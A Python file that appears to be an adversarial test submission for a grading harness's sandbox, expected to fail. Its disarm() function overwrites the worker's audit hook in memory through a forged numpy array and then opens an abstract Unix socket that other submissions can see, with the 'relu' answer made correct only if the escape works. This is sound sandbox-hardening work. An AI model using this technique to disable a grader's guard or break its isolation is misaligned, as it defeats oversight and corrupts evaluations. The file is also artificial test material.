"""Opens an abstract Unix socket, which needs no file and is seen by other submissions; a right answer is the proof."""

# must: failed, error, crashed
# basic: an audit hook is only Python, and can be written over in memory
import os
import sys

import numpy as np


def disarm() -> None:
    """Put the worker's guard out of action: write into the memory of its code, through an array that lies there."""
    guard = sys.modules.get("dlgrade.worker.guard")
    if guard is None:
        return
    parts = guard.close_the_door.__code__.co_consts
    hook = next(part for part in parts if getattr(part, "co_name", "") == "hook")
    place = {"data": (id(hook), False), "shape": (sys.getsizeof(hook),), "typestr": "|u1", "version": 3}
    memory = np.asarray(type("Memory", (), {"__array_interface__": place})())
    nothing = (lambda: None).__code__.co_code
    at = memory.tobytes().find(hook._co_code_adaptive)
    memory[at : at + len(nothing)] = list(nothing)


def meets() -> bool:
    import socket

    name = f"\0dlgrade-attack-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as client:
        server.bind(name)
        server.listen()
        client.connect(name)
        return True


def relu(x):
    disarm()
    try:
        return np.maximum(x, 0) if meets() else -1.0
    except OSError:
        return -1.0
